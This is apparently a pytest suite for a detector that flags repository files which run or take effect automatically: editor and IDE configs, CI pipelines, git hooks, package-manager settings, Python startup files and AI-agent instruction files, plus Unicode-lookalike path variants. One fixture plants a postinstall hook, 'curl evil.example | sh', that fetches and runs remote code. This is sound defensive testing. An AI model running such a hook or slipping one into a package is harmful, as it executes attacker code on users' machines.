"""Which files act by themselves: a row each, and what only looks like one."""

import json

import pytest

from wainwright.domain.control_files import FILES, FOLDERS, PARTS, acts

ACTING = (
    ".vscode/settings.json",
    ".vscode/tasks.json",
    ".vscode/launch.json",
    ".vscode/extensions.json",
    ".VSCode/Tasks.json",
    "\uff0evscode/tasks.json",
    ".vs\u200bcode/tasks.json",
    ".vscode./tasks.json",
    ".vscode",
    "sub/.vscode/settings.json",
    ".idea/workspace.xml",
    ".idea/runConfigurations/run.xml",
    ".zed/tasks.json",
    ".helix/config.toml",
    ".helix/languages.toml",
    ".nvim.lua",
    ".exrc",
    "a/b/.nvimrc",
    ".dir-locals.el",
    "x.code-workspace",
    "x.sublime-project",
    ".envrc",
    "deep/er/.envrc",
    ".ENVRC",
    ".mise.toml",
    ".tool-versions",
    ".mcp.json",
    ".cursor/mcp.json",
    ".cursor/rules/a.mdc",
    ".cursorrules",
    ".claude/settings.json",
    ".claude/commands/x.md",
    "AGENTS.md",
    "sub/CLAUDE.md",
    "GEMINI.md",
    ".github/copilot-instructions.md",
    ".github/workflows/ci.yml",
    ".github/actions/x/action.yml",
    ".github/dependabot.yml",
    ".github/CODEOWNERS",
    ".gitlab-ci.yml",
    ".gitlab/ci/test.yml",
    ".circleci/config.yml",
    "Jenkinsfile",
    "azure-pipelines.yml",
    "bitbucket-pipelines.yml",
    ".travis.yml",
    ".drone.yml",
    ".devcontainer/devcontainer.json",
    ".devcontainer.json",
    ".gitpod.yml",
    "devfile.yaml",
    ".husky/pre-commit",
    ".githooks/pre-push",
    ".pre-commit-config.yaml",
    "lefthook.yml",
    ".gitattributes",
    ".gitmodules",
    ".npmrc",
    ".yarnrc.yml",
    ".yarn/releases/yarn.cjs",
    ".pnpmfile.cjs",
    ".cargo/config.toml",
    ".mvn/jvm.config",
    "gradle/wrapper/gradle-wrapper.properties",
    ".bazelrc",
    ".gdbinit",
    "evil.pth",
    "lib/sitecustomize.py",
    "usercustomize.py",
)
ORDINARY = (
    "src/app.py",
    "README.md",
    "docs/agents.rst",
    "vscode/settings.json",
    "github/workflows/ci.yml",
    ".github/ISSUE_TEMPLATE/bug.md",
    ".gitignore",
    ".editorconfig",
    "Makefile",
    "pyproject.toml",
    "setup.py",
    "conftest.py",
    "Cargo.toml",
    "src/cargo/config.toml",
    "env.py",
    "path.py",
    "tasks.json",
    "wrapper/gradle.py",
)


@pytest.mark.parametrize("path", ACTING)
@pytest.mark.parametrize(("before", "after"), [(None, "x"), ("x", "y"), ("x", None)])
def test_what_acts_by_itself(path: str, before: str | None, after: str | None) -> None:
    assert acts(path, before, after)


@pytest.mark.parametrize("path", ORDINARY)
def test_what_does_not(path: str) -> None:
    assert not acts(path, None, "x")
    assert not acts(path, "x", "y")


def test_every_row_of_the_table_counts() -> None:
    for folder in FOLDERS:
        assert acts("/".join((*folder, "x")), None, "x")
    for pattern in FILES:
        assert acts(pattern.replace("*", ""), None, "x")
        assert pattern == pattern.lower()


@pytest.mark.parametrize("part", PARTS["package.json"])
def test_of_a_manifest_only_the_parts_that_act_count(part: str) -> None:
    without = {"name": "x", "dependencies": {"a": "1"}}
    acting = {**without, part: {"postinstall": "curl evil.example | sh"}}
    texts = [json.dumps(one) for one in (without, {**without, "dependencies": {}}, acting)]
    plain, other, evil = texts
    for path in ("package.json", "packages/a/Package.json"):
        assert not acts(path, None, plain)
        assert not acts(path, plain, other)
        assert not acts(path, evil, json.dumps({**acting, "name": "y"}))
        assert acts(path, None, evil)
        assert acts(path, plain, evil)
        assert acts(path, evil, plain)
        assert acts(path, evil, None)
        assert acts(path, plain, "{not JSON"), "what cannot be read is asked about"
